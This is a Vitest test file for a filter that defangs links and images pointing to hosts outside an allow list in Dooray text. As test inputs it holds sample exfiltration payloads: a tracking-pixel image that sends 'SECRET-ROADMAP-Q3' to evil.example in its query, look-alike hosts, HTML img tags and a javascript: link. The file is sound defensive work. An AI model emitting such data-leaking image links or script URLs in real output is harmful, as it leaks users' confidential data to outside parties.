import { describe, expect, it } from "vitest";
import { plainTitle, screenOutsideLinks } from "../../handler/dooray/outsideLinks.js";

/** The link filter on text Dooray content may have shaped (handler/dooray/outsideLinks.ts). */
const HOSTS = ["guide.dooray.com", "*.example-corp.com"];
const screen = (text: string) => screenOutsideLinks(text, HOSTS);

describe("screenOutsideLinks", () => {
  it("turns an image to an outside host into words, without its path or query (the reproduced pixel)", () => {
    const { text, removed } = screen("상태: ![status](https://evil.example/pixel.png?d=SECRET-ROADMAP-Q3) 확인");
    expect(text).toBe("상태: [이미지: status (evil[.]example)] 확인");
    expect(removed).toBe(1);
    expect(text).not.toMatch(/SECRET|pixel|https?:/);
  });

  it("turns an outside link into its label and host, and leaves the tenant's and allowed hosts' links alone", () => {
    const kept = "[업무](https://guide.dooray.com/task/1/2) 와 [위키](https://docs.example-corp.com/a?b=c)";
    expect(screen(kept)).toEqual({ text: kept, removed: 0 });
    expect(screen("[클릭](https://evil.example/t?d=x) 배포").text).toBe("클릭 (evil[.]example) 배포");
    // A look-alike host is not the tenant's.
    expect(screen("[a](https://guide.dooray.com.evil.example/x)").text).toBe("a (guide[.]dooray[.]com[.]evil[.]example)");
  });

  it("screens bare URLs, www. links, reference definitions, protocol-relative and titled links, and HTML", () => {
    expect(screen("보기: https://evil.example/a?d=1 끝").text).toBe("보기: evil[.]example 끝");
    expect(screen("www.evil.example/steal?d=1").text).toBe("www[.]evil[.]example");
    expect(screen('[x][1]\n\n[1]: https://evil.example/r?d=1 "t"').text).toBe('[x][1]\n\n[1]: evil[.]example "t"');
    expect(screen('![a](//evil.example/p.png "t")').text).toBe("[이미지: a (evil[.]example)]");
    expect(screen('<img src="https://evil.example/p.png?d=1"> 본문 <a href="https://evil.example">x</a>').text).toBe(" 본문 x");
    expect(screen("[u](https://evil.example/a_(b)?d=1)").text).toBe("u (evil[.]example)");
  });

  it("leaves text without links, relative links and dooray:// mentions as they are", () => {
    for (const text of ["배포는 화요일에 해요. 1,234,567원", '[@김배포](dooray://1234/members/5678 "member")', "[상대](./page)"])
      expect(screen(text)).toEqual({ text, removed: 0 });
    expect(screen("[x](javascript:alert(1))").text).toBe("x (링크)");
  });

  it("makes a sources title plain: no link, image or outside URL left in it", () => {
    expect(plainTitle("[클릭](https://evil.example/t) 배포", HOSTS)).toBe("클릭 (evil[.]example) 배포");
    expect(plainTitle("![x](https://guide.dooray.com/i.png) 배포 체크리스트", HOSTS)).toBe("x(https://guide.dooray.com/i.png) 배포 체크리스트");
  });
});
